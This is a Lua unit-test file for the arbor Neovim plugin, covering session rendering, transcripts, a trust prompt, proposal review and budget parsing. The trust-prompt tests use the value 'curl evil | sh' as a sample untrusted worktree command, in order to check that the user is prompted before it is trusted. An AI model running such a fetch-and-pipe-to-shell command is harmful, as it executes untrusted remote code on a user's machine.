-- Unit checks of the plugin's pure parts (store, tree rendering, transcript rendering), run
-- before e2e.lua in the same headless Neovim. The transcript renderer renders every golden event
-- log of extensions/test/golden, reading the payloads through proxies that allow only the fields
-- protocol_gen.lua declares. Fails with :cquit 1 and a reason in $ARBOR_TEST_OUT.
local out = os.getenv('ARBOR_TEST_OUT') or '/dev/stderr'

local function fail(msg)
  local f = io.open(out, 'w')
  f:write('unit: ' .. msg .. '\n')
  f:close()
  vim.cmd('cquit 1')
end

local function check(cond, msg)
  if not cond then
    fail(msg)
  end
end

local P = require('arbor.protocol')
check(P.MethodSessionCreate == 'arbor/session.create', 'protocol.MethodSessionCreate')
check(vim.fn.exists(':ArborRun') == 2 and vim.fn.exists(':ArborSessions') == 2, 'plugin/arbor.lua did not define :ArborRun and :ArborSessions')

local arbor = require('arbor')
check(arbor.sandbox_warning({ sandbox = { mode = 'bwrap', available = true } }) == nil, 'sandbox warning for a sandboxing daemon')
local sw = arbor.sandbox_warning({ sandbox = { mode = 'unsandboxed', available = false, reason = 'bwrap: Failed to make / slave' } })
check(sw and sw:find('unsandboxed', 1, true) and sw:find('Failed to make / slave', 1, true), 'sandbox warning: ' .. tostring(sw))

local store = require('arbor.store')
store.replace({
  { id = 'aaaa1111xxxx', task = 'root task', state = 'idle', model = 'scripted', branch = 'arbor/root-aaaa1111',
    created = '2026-01-01T00:00:00Z', total = { inputTokens = 1200, outputTokens = 34 } },
  { id = 'bbbb2222yyyy', parent = 'aaaa1111xxxx', task = 'child\nsecond line', state = 'running', model = 'scripted',
    branch = 'arbor/child-bbbb2222', created = '2026-01-01T00:00:01Z', total = {} },
})
local lines, ids = store.render()
check(#lines == 2 and ids[1] == 'aaaa1111xxxx' and ids[2] == 'bbbb2222yyyy', 'render order: ' .. vim.inspect(lines))
check(lines[1]:find('idle', 1, true) and lines[1]:find('1.2k tok', 1, true) and lines[1]:find('arbor/root-aaaa1111', 1, true),
  'root line: ' .. lines[1])
check(lines[2]:find('└─', 1, true) and lines[2]:find('running', 1, true) and not lines[2]:find('second line', 1, true),
  'child line: ' .. lines[2])
store.apply({ full = false, sessions = { { id = 'bbbb2222yyyy', parent = 'aaaa1111xxxx', task = 'child', state = 'failed',
  error = 'boom', branch = 'b', created = '2026-01-01T00:00:01Z' } } })
lines = store.render()
check(lines[2]:find('failed', 1, true) and lines[2]:find('! boom', 1, true), 'upsert: ' .. lines[2])
check(store.find('bbbb') and store.find('bbbb').id == 'bbbb2222yyyy', 'find by prefix')
-- A record older than the one held (lower lastSeq) does not replace it, in a delta or a full list.
store.apply({ full = false, sessions = { { id = 'cccc3333zzzz', task = 'late', state = 'stopped', lastSeq = 9 } } })
store.apply({ full = false, sessions = { { id = 'cccc3333zzzz', task = 'late', state = 'idle', lastSeq = 8 } } })
check(store.get('cccc3333zzzz').state == 'stopped', 'an older delta replaced a newer record')
store.replace({ { id = 'cccc3333zzzz', task = 'late', state = 'idle', lastSeq = 7 } })
check(#store.all() == 1 and store.get('cccc3333zzzz').state == 'stopped', 'an older full list replaced a newer record')
store.apply({ full = false, sessions = { { id = 'cccc3333zzzz', task = 'late', state = 'idle', lastSeq = 9 } } })
check(store.get('cccc3333zzzz').state == 'idle', 'a record with the same lastSeq is applied')
store.apply({ full = true, sessions = {} })
check(#store.all() == 0, 'full=true replaces the list')

local sum = require('arbor.log').summary({ session = 'x', seq = 3, ts = '2026-01-01T10:11:12.5Z', type = 'tool_finished',
  data = { status = 'ok', output = '2\n' } })
check(sum == '#3 tool_finished: result (ok)', 'summary: ' .. vim.inspect(sum))
sum = require('arbor.log').summary({ seq = 8, type = 'tool_finished', data = { status = 'error', output = 'Traceback\n', error = 'ModuleNotFoundError: x' } })
check(sum == '#8 tool_finished: result (error) — ModuleNotFoundError: x', 'summary with the error: ' .. vim.inspect(sum))
local unknown = table.concat(require('arbor.log').render_log({ { seq = 4, type = 'something_new', data = { k = 1 } },
  { seq = 5, type = 'something_new', data = { k = { x = 1 } } } }), '\n')
check(unknown:find('something_new: k=1', 1, true) and unknown:find('something_new: k={"x": 1}', 1, true),
  'an unknown event shows its data: ' .. unknown)

-- The golden event logs, recorded from real sessions.
local here = vim.fn.fnamemodify(debug.getinfo(1, 'S').source:sub(2), ':p:h')
local plugin = vim.fn.fnamemodify(here, ':h')
local golden = {}
for _, f in ipairs(vim.fn.glob(plugin .. '/../test/golden/*.jsonl', false, true)) do
  local events = {}
  for _, l in ipairs(vim.fn.readfile(f)) do
    if l ~= '' then
      table.insert(events, vim.fn.json_decode(l))
    end
  end
  golden[vim.fn.fnamemodify(f, ':t:r')] = events
end
for _, name in ipairs({ 'root', 'child', 'fork', 'compaction', 'failure' }) do
  check(golden[name] and #golden[name] > 0, 'no golden log ' .. name .. '.jsonl under ' .. plugin .. '/../test/golden')
end

-- Field types from protocol_gen.lua's annotations: class -> field -> type (e.g. 'arbor.ToolCall[]').
local field_types = {}
do
  local class
  for _, l in ipairs(vim.fn.readfile(plugin .. '/lua/arbor/protocol_gen.lua')) do
    local c = l:match('^%-%-%-@class arbor%.(%w+)$')
    local f, t = l:match('^%-%-%-@field (%w+)%??%s+(%S+)$')
    if c then
      class = c
      field_types[class] = {}
    elseif f and class then
      field_types[class][f] = t
    else
      class = nil
    end
  end
end
check(field_types.StateChanged and field_types.StateChanged.reason == 'string', 'protocol_gen.lua annotations: ' .. vim.inspect(field_types.StateChanged))

-- wrap(v, 'arbor.X') is v read through a proxy that records every field X does not have.
local unknown_fields = {}
local wrap
wrap = function(v, typ)
  if type(v) ~= 'table' or type(typ) ~= 'string' then
    return v
  end
  local elem = typ:match('^arbor%.(%w+)%[%]$')
  if elem then
    local out = {}
    for i, x in ipairs(v) do
      out[i] = wrap(x, 'arbor.' .. elem)
    end
    return out
  end
  local class = typ:match('^arbor%.(%w+)$')
  if not class or not P.fields[class] then
    return v
  end
  local allowed = {}
  for _, f in ipairs(P.fields[class]) do
    allowed[f] = true
  end
  return setmetatable({}, {
    __index = function(_, k)
      if not allowed[k] then
        unknown_fields[class .. '.' .. tostring(k)] = true
      end
      return wrap(v[k], field_types[class][k])
    end,
    __newindex = function()
      error('the renderer writes into event data')
    end,
  })
end

local log = require('arbor.log')
for t, payload in pairs(P.event_payloads) do
  check(log.renderers[t], 'log.lua renders no ' .. t .. ' (' .. payload .. ') events: they would show as raw data')
end
for t in pairs(log.renderers) do
  check(P.event_payloads[t], 'log.lua renders ' .. t .. ', which is no event type of protocol_gen.lua')
end

--- The transcript of a golden log as one string, each event's data behind a strict proxy.
local function transcript(name)
  local t = require('arbor.transcript').new({ render = log.renderers, header = { '# ' .. name } })
  for _, ev in ipairs(golden[name]) do
    local payload = P.event_payloads[ev.type]
    check(payload, name .. '.jsonl: event type ' .. tostring(ev.type) .. ' is not in protocol_gen.lua')
    local before = #t.lines
    t:add(vim.tbl_extend('force', ev, { data = wrap(ev.data, 'arbor.' .. payload) }))
    local only_calls = ev.type == P.EventAssistantMessage and (ev.data.text or '') == '' and #(ev.data.toolCalls or {}) > 0
    check(#t.lines > before or only_calls, name .. '.jsonl #' .. ev.seq .. ' (' .. ev.type .. ') renders nothing')
  end
  local bad = vim.tbl_keys(unknown_fields)
  table.sort(bad)
  check(#bad == 0, name .. '.jsonl: the renderer reads fields the protocol does not have: ' .. table.concat(bad, ', '))
  return table.concat(t.lines, '\n'), t
end

local function has(text, want, what)
  check(text:find(want, 1, true), what .. ': no ' .. vim.inspect(want) .. ' in\n' .. text)
end

local failure = transcript('failure')
local reason = golden.failure[#golden.failure].data.reason
check(type(reason) == 'string' and reason:find('refused', 1, true), 'failure.jsonl ends without a reason: ' .. vim.inspect(golden.failure[#golden.failure]))
has(failure, '→ failed: ' .. reason, 'failure.jsonl: the failed state with its reason')
has(failure, 'turn 1 failed: ' .. reason, 'failure.jsonl: the turn_failed error')

local root, rt = transcript('root')
has(root, '↳ subagent helper on arbor/write-the-helper-8bfcf583: write the helper — <CR> opens its transcript', 'root.jsonl: subagent_spawned')
has(root, '▸ cell · error [2] · 688 ms\n```python\nprint(1/0)\n```\n```\n----', 'root.jsonl: the failed cell, its code and its output fenced')
has(root, '\nZeroDivisionError: division by zero\n```', 'root.jsonl: the ZeroDivisionError at the end of the output')
has(root, 'error: ZeroDivisionError: division by zero', 'root.jsonl: the cell\'s error')
has(root, 'child helper:\n[message from child helper]\nhelper written', 'root.jsonl: the message from the child')
has(root, '## turn 1\ntask: rename area_of to rect_area\n▸ cell · ok [1] · 2866 ms', 'root.jsonl: turn 1, the task and its first cell')
has(root, '\n→ idle', 'root.jsonl: the final state')
-- Folds: a turn opens at its heading (level 1), a cell at its title (level 2) and ends with its
-- result; the state after the turn is outside it. Lines know their event: the subagent line
-- links the child, every line of a turn knows the turn.
local function line_of(t, pat)
  for i, l in ipairs(t.lines) do
    if l:find(pat, 1, true) then
      return i
    end
  end
end
local turn2, cell2 = line_of(rt, '## turn 2'), line_of(rt, '▸ cell · error')
local err2, after2 = line_of(rt, 'error: ZeroDivisionError'), line_of(rt, 'assistant: The division failed')
check(rt.levels[line_of(rt, '## turn 1')] == '>1' and rt.levels[turn2] == '>1' and rt.levels[cell2] == '>2' and rt.levels[err2] == '2'
  and rt.levels[after2] == '1' and rt.levels[#rt.lines] == '0' and rt.levels[1] == '0',
  'root.jsonl fold levels: ' .. vim.inspect({ rt.levels[turn2], rt.levels[cell2], rt.levels[err2], rt.levels[after2], rt.levels[#rt.lines] }))
local sub = rt:entry(line_of(rt, '↳ subagent helper'))
check(sub and sub.child == golden.child[1].session and sub.type == 'subagent_spawned', 'the subagent line links the child: ' .. vim.inspect(sub))
check(rt:entry(err2).type == 'tool_finished' and rt:turn_at(err2) == 2 and rt:turn_at(line_of(rt, 'kernel started')) == 1
  and rt:entry(1) == nil and rt:turn_at(1) == nil, 'entries and turns of lines')
local fin
for _, ev in ipairs(golden.root) do
  if ev.type == 'tool_finished' and ev.data.status == 'error' then
    fin = ev.seq
  end
end
check(rt:entry(err2).seq == fin, 'the error line is the tool_finished event #' .. tostring(fin) .. ': ' .. vim.inspect(rt:entry(err2)))

local child, ct = transcript('child')
has(child, '- subagent of 8e6a9ede', 'child.jsonl: its parent')
has(child, 'sent to parent 8e6a9ede (delivered):\nhelper written', 'child.jsonl: message_sent')
has(child, "```python\nopen('helper.py','w')", 'child.jsonl: the cell that writes the file')
local cp = line_of(ct, '◆ checkpoint 13e347442b52 after turn 1 — D: the diff of turn 1')
check(cp and ct:entry(cp).checkpoint == 1, 'child.jsonl: the checkpoint line, with its turn: ' .. child)
check(ct:entry(line_of(ct, '- subagent of 8e6a9ede')).child == golden.root[1].session, 'the child links its parent')

if P.EventRejected then
  local rej = table.concat(log.render_event({ seq = 9, type = P.EventRejected, data = wrap({ commit = 'abcdef0123456789',
    files = { 'f.txt' }, hunks = { 'f.txt#0', 'f.txt#2' } }, 'arbor.Rejected') }), '\n')
  has(rej, '✗ rejected by the user, reverted on this branch as abcdef0123: hunks f.txt#0, f.txt#2', 'rejected')
end

local fork = transcript('fork')
has(fork, '- fork of 8e6a9ede at event 20', 'fork.jsonl: session_created forkOf/forkSeq')
has(fork, 'forked from 8e6a9ede at event 20 (checkpoint 6f3f75592f, 2 turns)', 'fork.jsonl: forked')

-- Streamed output (tool_output events, between a cell's tool_started and tool_finished): appended
-- to the cell as it comes, a print without a newline continued by the next piece, stderr apart;
-- other events in between close the fence and a later piece reopens it; tool_finished then ends
-- the cell and shows only what the stream did not (the value of the last expression, say), or
-- all it saw when the stream differs (cut). The view is told which lines changed: appends, and
-- in-place rewrites above the end (the cell title, the header's state line).
do
  local T = require('arbor.transcript')
  local OUT = P.EventToolOutput or 'tool_output'
  local t = T.new({ render = log.renderers, header = { '# s', 'state ?' }, state_line = 2,
    state_text = function(st) return 'state ' .. st end })
  local seq = 0
  local function add(typ, data)
    seq = seq + 1
    t:add({ seq = seq, type = typ, ts = '2026-01-01T10:00:0' .. (seq % 10) .. 'Z', data = data })
  end
  add(P.EventStateChanged, { state = 'running' })
  add(P.EventTurnStarted, { turn = 1 })
  add(P.EventToolStarted, { callId = 'c1', code = 'for i in range(3): print(i)' })
  local first = t:take()
  check(first.from == 1 and first.flushed == 0 and #first.lines == #t.lines and t.lines[2] == 'state running'
    and #first.patches == 0, 'the first take: ' .. vim.inspect(first))
  add(OUT, { callId = 'c1', stream = 'stdout', text = '0\n1' })
  local mid = #t.lines
  check(t.lines[mid] == '1' and t.lines[mid - 1] == '0' and t.lines[mid - 2] == '```' and t.levels[mid] == '2',
    'streamed 0 and 1: ' .. vim.inspect(t.lines))
  local took = t:take()
  add(OUT, { callId = 'c1', stream = 'stdout', text = '1\n2\n' })
  local cont = t:take()
  check(cont.from == mid + 1 and vim.deep_equal(cont.patches, { { mid, '11' } }) and vim.deep_equal(cont.lines, { '2' })
    and cont.flushed == mid and took.from, 'a piece continues the line without a newline: ' .. vim.inspect(cont))
  add(OUT, { callId = 'c1', stream = 'stderr', text = 'warn\n' })
  check(t.lines[#t.lines] == 'warn' and vim.deep_equal(t:take().hls, { { #t.lines, 'WarningMsg' } }), 'stderr is highlighted')
  add(P.EventKernel, { event = 'started', pid = 7 })
  add(OUT, { callId = 'c1', stream = 'stdout', text = '3\n' })
  local text = table.concat(t.lines, '\n')
  has(text, '```\n0\n11\n2\nwarn\n```\nkernel started (pid 7)\n```\n3', 'an event between pieces closes and reopens the fence')
  t:take()
  add(P.EventToolFinished, { callId = 'c1', status = 'ok', output = '0\n11\n2\nwarn\n3\n42\n', executionCount = 1, durationMs = 5 })
  local done = t:take()
  check(#done.patches == 1 and done.patches[1][2] == '▸ cell · ok [1] · 5 ms', 'the finished cell rewrites its title in place: ' .. vim.inspect(done.patches))
  has(table.concat(t.lines, '\n'), '```\n3\n```\n```\n42\n```', 'what the stream did not carry (42) follows it')
  local dup = #t.lines
  add(P.EventToolStarted, { callId = 'c2', code = 'print("x")' })
  add(OUT, { callId = 'c2', stream = 'stdout', text = 'x\n' })
  add(P.EventToolFinished, { callId = 'c2', status = 'ok', output = 'x\n' })
  check(#t.lines == dup + 7 and t.lines[#t.lines] == '```', 'output the stream carried in full is not repeated: ' .. vim.inspect(t.lines))
  add(P.EventToolStarted, { callId = 'c3', code = 'big()' })
  add(OUT, { callId = 'c3', stream = 'stdout', text = 'aaaa\n' })
  add(OUT, { callId = 'c3', stream = 'stdout', text = 'bbbb\n', truncated = true })
  add(P.EventToolFinished, { callId = 'c3', status = 'aborted', output = 'aaaa\n[… 9 lines cut …]\nzzzz\n' })
  local cut = table.concat(t.lines, '\n')
  has(cut, 'bbbb\n```\n… the rest of this output is not kept in the log', 'a truncated stream says so')
  has(cut, 'what the model saw (bounded):\n```\naaaa\n[… 9 lines cut …]\nzzzz\n```', 'a stream that differs from the result shows the result in full')
  t:take()
  add(P.EventStateChanged, { state = 'idle' })
  local last = t:take()
  check(t.lines[2] == 'state idle' and t.levels[#t.lines] == '0' and last.patches[1] and last.patches[1][1] == 2,
    'the state line follows and the state is outside the turn: ' .. vim.inspect(last))
  check(#first.marks >= 2 and first.marks[1][2] == '#1 10:00:01', 'quiet marks: ' .. vim.inspect(first.marks))
  check(not t:add({ seq = 3, type = P.EventKernel, data = {} }), 'an event already shown is skipped')
  -- A stopped cell keeps what it streamed: the interrupt and the aborted result add to it.
  add(P.EventTurnStarted, { turn = 2 })
  add(P.EventToolStarted, { callId = 'c4', code = 'slow()' })
  add(OUT, { callId = 'c4', stream = 'stdout', text = 'step 1\nstep 2\n' })
  add(P.EventInterrupted, { turn = 2, reason = 'stopped by the user' })
  add(P.EventToolFinished, { callId = 'c4', status = 'aborted', output = '' })
  has(table.concat(t.lines, '\n'), '▸ cell · aborted\n```python\nslow()\n```\n```\nstep 1\nstep 2\n```\nturn 2 interrupted: stopped by the user',
    'a stopped cell keeps its streamed output')
end

local compaction = transcript('compaction')
local _, compactions = compaction:gsub('context compacted: 3 messages summarised, 6 kept', '')
check(compactions == 3, 'compaction.jsonl: want 3 compactions (3 summarised, 6 kept), got ' .. compactions .. ' in\n' .. compaction)
has(compaction, '> SUMMARY: the agent printed numbered blocks.', 'compaction.jsonl: the summary')
has(compaction, 'live variables: ArborError, agent_message, arbor_ping, n, rlm', 'compaction.jsonl: the live variables')

-- The store and the tree, fed Sessions built from the golden logs as the daemon builds them.
local function session(events)
  local c = events[1].data
  local s = { id = c.id, parent = c.parent, name = c.name, task = c.task, model = c.model, branch = c.branch,
    worktree = c.worktree, baseCommit = c.baseCommit, forkOf = c.forkOf, forkSeq = c.forkSeq, workspace = c.workspace,
    created = c.created, lastSeq = events[#events].seq, state = 'unknown',
    usage = { modelCalls = 0, inputTokens = 0, outputTokens = 0, costUSD = 0, kernelExecs = 0, messages = 0,
      humanInterventions = 0, retries = 0 } }
  for _, ev in ipairs(events) do
    if ev.type == P.EventStateChanged then
      s.state, s.error = ev.data.state, ev.data.reason
    elseif ev.type == P.EventAssistantMessage then
      s.usage.modelCalls = s.usage.modelCalls + 1
      s.usage.inputTokens = s.usage.inputTokens + ev.data.usage.inputTokens
      s.usage.outputTokens = s.usage.outputTokens + ev.data.usage.outputTokens
    end
  end
  s.total = s.usage
  for k in pairs(s) do
    check(vim.tbl_contains(P.fields.Session, k), 'the test\'s Session has a field arbor.Session lacks: ' .. k)
  end
  return s
end
local list = {}
for _, name in ipairs({ 'root', 'child', 'fork', 'compaction', 'failure' }) do
  table.insert(list, session(golden[name]))
end
store.replace(list)
lines, ids = store.render()
local tree = table.concat(lines, '\n')
check(#lines == 5 and ids[1] == golden.root[1].session and ids[2] == golden.child[1].session, 'golden tree order:\n' .. tree)
check(lines[2]:find('└─', 1, true) and lines[2]:find('helper', 1, true) and lines[2]:find('arbor/write-the-helper-8bfcf583', 1, true),
  'the child sits under the root:\n' .. tree)
check(lines[1]:find('1.6k tok', 1, true), 'the root row shows its tokens:\n' .. tree)
has(tree, 'second try  [scripted · 0 tok · arbor/second-try-cce86fd4] cce86fd4  (fork of 8e6a9ede @20)', 'the fork row')
has(lines[5], '✗ failed   broken model', 'the failed row')
check(store.worktree_note({ worktreeWriting = true }) == 'writing files' and store.worktree_note({ worktreeQueued = true }) == 'files queued'
  and store.worktree_note({ worktreeReleased = true }) == 'worktree released' and store.worktree_note({}) == nil
  and store.worktree_note({ discarded = true, worktreeWriting = true }) == nil, 'worktree notes')
has(lines[5], '! ' .. reason, 'the failed row\'s reason')
local header = table.concat(log.header(store.get(golden.fork[1].session), golden.fork[1].session), '\n')
has(header, '# second try\n\nidle · branch arbor/second-try-cce86fd4 · fork of 8e6a9ede @20', 'the fork\'s transcript header')
store.replace({})

-- The trust prompt: a CodeUntrusted refusal is asked about, the hash shown is granted, and the
-- request sent again; a decline sends nothing more; a file changed before the grant is shown again.
local trust = require('arbor.trust')
local function tstate(hash, value)
  return { repo = '/r', file = '/r/arbor.json', trusted = false, hash = hash, command = 'arbor trust /r',
    settings = { { name = 'worktree.command', value = value or '"make"', why = 'runs on your machine' } } }
end
local function refusal(st)
  return { code = P.CodeUntrusted, message = 'untrusted', data = st }
end
check(trust.state(refusal(tstate('h'))) and trust.state({ code = P.CodeConflict, data = tstate('h') }) == nil
  and trust.state({ code = P.CodeUntrusted }) == nil, 'trust.state')
local prompt = trust.prompt(tstate('h', '"curl evil | sh"'))
has(prompt, 'worktree.command = "curl evil | sh"', 'the prompt')
has(prompt, 'runs on your machine', 'the prompt')
has(prompt, 'arbor trust /r', 'the prompt')
for _, tc in ipairs({
  { name = 'accepted', answers = { true }, stale = false, want_grants = { 'h1' }, want_ok = true, want_asked = 1 },
  { name = 'declined', answers = { false }, stale = false, want_grants = {}, want_ok = false, want_asked = 1 },
  { name = 'changed before the grant', answers = { true, true }, stale = true, want_grants = { 'h1', 'h2' }, want_ok = true, want_asked = 2 },
}) do
  local trusted, grants, asked, sent, done = false, {}, {}, 0, nil
  trust.confirm = function(msg)
    table.insert(asked, msg)
    return tc.answers[#asked]
  end
  local function request(method, params, cb)
    if method == P.MethodTrustGrant then
      table.insert(grants, params.hash)
      if tc.stale and params.hash == 'h1' then
        cb(refusal(tstate('h2', '"curl evil"')))
      else
        trusted = true
        cb(nil, tstate(params.hash))
      end
      return
    end
    sent = sent + 1
    if trusted then
      cb(nil, { id = 'sess' })
    else
      cb(refusal(tstate('h1')))
    end
  end
  trust.request(request, P.MethodSessionCreate, { task = 't' }, function(err, res)
    done = { err = err, res = res }
  end)
  vim.wait(2000, function() return done ~= nil end, 10)
  check(done ~= nil, tc.name .. ': no answer')
  check(#asked == tc.want_asked, tc.name .. ': asked ' .. #asked .. ' times')
  check(vim.deep_equal(grants, tc.want_grants), tc.name .. ': grants ' .. vim.inspect(grants))
  check((done.err == nil) == tc.want_ok and (not tc.want_ok or done.res.id == 'sess'), tc.name .. ': ' .. vim.inspect(done))
  check(sent == (tc.want_ok and 2 or 1), tc.name .. ': sent ' .. sent .. ' times')
  if tc.stale then
    has(asked[2], '"curl evil"', tc.name .. ': the second prompt')
  end
end
trust.confirm = nil
package.loaded['arbor.trust'] = nil

-- The proposals review: the list, the diff header and the messages, reading each Proposal through
-- the strict proxy (only fields protocol_gen.lua declares).
check(vim.fn.exists(':ArborProposals') == 2 and vim.fn.exists(':ArborProposalAccept') == 2
  and vim.fn.exists(':ArborProposalReject') == 2 and vim.fn.exists(':ArborRefine') == 2, 'plugin/arbor.lua: the proposal commands')
local props = require('arbor.proposals')
local function proposal(p)
  return wrap(vim.tbl_extend('keep', p, { id = 'p0a1b2c3d', scope = 'workspace', ref = 'refs/arbor/harness/workspace',
    author = 'agent', session = 'aaaa1111xxxx', turn = 2, commit = 'c0ffee', created = '2026-01-01T00:00:00Z',
    status = 'pending', edits = { { op = 'create', kind = 'note', id = 'team-rule', title = 'Team rule' } } }), 'arbor.Proposal')
end
local pending = proposal({ rationale = 'the tests were\nskipped', intended = 'tests run first',
  advice = { 'note team-rule names tests/x.py, a path the checks rely on (**/tests/**): make sure it does not change what they judge' } })
local gated = proposal({ id = 'p11112222', status = 'rejected', decidedBy = 'gate', reason = 'gate `make test` failed (exit 2)',
  observed = 'gate `make test` failed (exit 2)',
  gate = { command = 'make test', passed = false, exitCode = 2, durationMs = 812, output = 'FAIL' } })
local applied = proposal({ id = 'p33334444', status = 'applied', decidedBy = 'user', applied = '9c81092536aabbcc',
  edits = { { op = 'update', kind = 'skill', id = 'fmt' }, { op = 'delete', kind = 'memory', id = 'old' } } })
local plines, powners = props.render({ pending, gated, applied }, 'all')
local ptext = table.concat(plines, '\n')
has(plines[1], 'Arbor proposals: 3 in all', 'the proposals header')
has(plines[3], 'p0a1b2c3d  pending  workspace create note team-rule (Team rule)  (agent, session aaaa1111 turn 2)', 'the pending row')
has(ptext, '    > the tests were skipped\n    intended: tests run first\n    advice: note team-rule names tests/x.py', 'the rationale, intended effect and advice')
has(ptext, 'p11112222  rejected workspace', 'the rejected row')
has(ptext, '    rejected by the branch check: gate `make test` failed (exit 2)\n    branch check `make test` failed (exit 2), 812 ms', 'the gate verdict')
has(ptext, 'update skill fmt, delete memory old', 'several edits')
has(ptext, '    applied as 9c81092536 by user', 'the applied row')
check(powners[3] == pending and powners[4] == pending and powners[5] == pending and powners[6] == pending and powners[7] == gated, 'the lines of each proposal')
check(powners[1] == nil and powners[2] == nil, 'the header belongs to no proposal')
local none = props.render({}, 'pending')
has(table.concat(none, '\n'), 'nothing waiting for review', 'an empty pending list')
local dlines = props.render_diff(pending, 'diff --git a/notes/team-rule.md b/notes/team-rule.md\n+Run the tests.\n')
has(dlines[1], '# harness proposal p0a1b2c3d: pending, workspace scope, by agent, session aaaa1111 turn 2', 'the diff header')
has(table.concat(dlines, '\n'), '# advice: note team-rule names tests/x.py', 'the advice in the diff header')
check(dlines[#dlines] == '+Run the tests.' and vim.tbl_contains(dlines, '# a accept  x reject  q close'), 'the diff body: ' .. vim.inspect(dlines))
has(table.concat(props.render_diff(gated, ''), '\n'), '# rejected by the branch check: gate `make test` failed (exit 2)\n# branch check `make test` failed (exit 2), 812 ms\n#   FAIL\n# q close', 'a decided diff header, with the gate\'s output')
local long = {}
for i = 1, 30 do
  table.insert(long, 'line ' .. i)
end
local tail = props.render_diff(proposal({ status = 'rejected', gate = { command = 'x', passed = false, exitCode = 1, durationMs = 1,
  output = table.concat(long, '\n') .. '\n' } }), '')
check(vim.tbl_contains(tail, '#   line 30') and vim.tbl_contains(tail, '#   line 21') and not vim.tbl_contains(tail, '#   line 20'),
  'the gate output is cut to its last 10 lines: ' .. vim.inspect(tail))
local msg, level = props.outcome(gated, 'accept')
check(level == vim.log.levels.WARN, 'an accept the gate rejected warns')
has(msg, 'p11112222 was not applied: rejected by the branch check: gate `make test` failed (exit 2)', 'the gated accept')
check(not msg:find('observed', 1, true), 'the observed effect is not repeated when it is the reason: ' .. msg)
msg = props.outcome(proposal({ status = 'rejected', decidedBy = 'eval-gate', reason = 'success drops', observed = 'suite: 3 failed' }), 'accept')
has(msg, 'rejected by the eval gate: success drops (observed: suite: 3 failed)', 'the observed effect apart from the reason')
msg, level = props.outcome(applied, 'accept')
check(level == vim.log.levels.INFO, 'an applied accept informs')
has(msg, 'p33334444 applied to the workspace harness as 9c81092536: update skill fmt', 'the applied accept')
has(props.outcome(proposal({ status = 'rejected', decidedBy = 'user', reason = 'no' }), 'reject'),
  'rejected p0a1b2c3d (create note team-rule (Team rule)): no', 'the reject')
local function refine_result(r)
  return wrap(vim.tbl_extend('keep', r, { scope = 'session', fromSeq = 3, toSeq = 40, calls = 1, inputTokens = 900,
    outputTokens = 40, proposals = {} }), 'arbor.RefineRunResult')
end
has(props.refined('aaaa1111xxxx', refine_result({ calls = 2, error = 'the reply has no JSON object' })),
  'refine of aaaa1111 (session scope, events 3-40, 2 model calls, 900+40 tokens): no proposal: the reply has no JSON object', 'a refine without proposals')
local rmsg = props.refined('aaaa1111xxxx', refine_result({ summary = 'the tests were skipped',
  proposals = { { id = 'p1', status = 'pending', scope = 'workspace', ref = 'r', author = 'refine', commit = 'c', created = 'x',
    edits = { { op = 'create', kind = 'note', id = 'n' } } } } }))
has(rmsg, ': 1 proposed: p1 pending (create note n). the tests were skipped — :ArborProposals to review', 'a refine with a proposal')
-- Goals: the --budget grammar of the CLI, checked before a request goes out; the tree's word for
-- a goal; the goal events and the goal's account, read through the strict proxy.
local goal = require('arbor.goal')
local b, berr = goal.parse_budget('tokens=50000, turns=20,wall=2h,cost=$5')
check(b and b.tokenBudget == 50000 and b.turnBudget == 20 and b.wallBudget == '2h' and b.costBudget == 5 and not berr,
  'parse_budget: ' .. vim.inspect({ b, berr }))
check(next(goal.parse_budget('')) == nil and next(goal.parse_budget('  ')) == nil, 'an empty budget is none')
b = goal.parse_budget('wall=1h30m,cost=0.50')
check(b.wallBudget == '1h30m' and b.costBudget == 0.5 and goal.parse_duration('1h30m') == 5400000, 'wall=1h30m: ' .. vim.inspect(b))
for input, want in pairs({
  ['tokens=5k'] = 'budget item 1 "tokens=5k": want a whole number of tokens above zero',
  ['turns=3,turns=0'] = 'budget item 2 "turns=0": want a whole number of turns above zero',
  ['wall=2 hours'] = 'budget item 1 "wall=2 hours": want a duration above zero such as 2h or 90m',
  ['tokens=1,cost=-1'] = 'budget item 2 "cost=-1": want an amount of USD above zero such as 5 or 0.50',
  ['money=5'] = 'budget item 1 "money=5": unknown budget; want tokens, turns, wall or cost',
  ['tokens'] = 'budget item 1 "tokens": want KEY=VALUE with KEY tokens, turns, wall or cost',
  ['turns=2,'] = 'budget item 2 "": want KEY=VALUE with KEY tokens, turns, wall or cost',
}) do
  local got, err = goal.parse_budget(input)
  check(got == nil and err == want, 'parse_budget(' .. input .. '): ' .. vim.inspect({ got, err }) .. ', want ' .. want)
end
check(goal.label({ status = 'active', objective = 'x' }) == 'goal active', 'label active')
check(goal.label({ status = 'active', waiting = 'children', objective = 'x' }) == 'goal parked on children', 'label parked')
check(goal.label({ status = 'budget_limited', objective = 'x' }) == 'goal budget limited', 'label budget limited')
check(goal.label({ status = 'active', waiting = 'message', objective = 'x' }) == 'goal waiting on a reply', 'label waiting on a reply')
check(goal.label(nil) == nil and goal.label(vim.NIL) == nil, 'no goal, no label')
store.replace({ { id = 'gggg1111xxxx', task = 'with a goal', state = 'idle', branch = 'arbor/g', created = 'x',
  goal = { objective = 'ship it', status = 'stalled' } }, { id = 'hhhh2222yyyy', task = 'none', state = 'idle', created = 'y' } })
local glines = store.render()
check(glines[1]:find('goal stalled', 1, true) and not glines[2]:find('goal', 1, true), 'tree goal column: ' .. vim.inspect(glines))
store.replace({})
local function goal_event(typ, data)
  return table.concat(log.render_event({ seq = 9, type = typ, data = wrap(data, 'arbor.' .. P.event_payloads[typ]) }), '\n')
end
local sp = { tokens = 1200, costUSD = 0.25, modelCalls = 3 }
has(goal_event(P.EventGoalSet, { objective = 'make the tests pass', tokenBudget = 50000, turnBudget = 20, wallBudgetMs = 7200000,
  costBudget = 5, ['until'] = 'make test', by = 'user', replaced = true, spend = sp }),
  '◎ goal (set by user): make the tests pass — budget 50000 tokens, 20 turns, 2h, $5.00; done when `make test` passes; replaces the previous goal',
  'goal_set')
local changed = goal_event(P.EventGoalChanged, { status = 'budget_limited', reason = 'the turns budget (20) is used up', limit = 'turns',
  turns = 20, claimed = true, verified = false, evidence = 'I ran it', spend = sp })
has(changed, '◎ goal budget limited: the turns budget (20) is used up [20 turns, 1200 tokens, $0.2500, 3 model calls]', 'goal_changed')
has(changed, 'claimed by the model: yes; verified: no', 'goal_changed claimed vs verified')
has(goal_event(P.EventGoalWait, { reason = 'children', children = { 'cccc3333zzzz' } }), '◎ goal parked until its subagents report: cccc3333', 'goal_wait children')
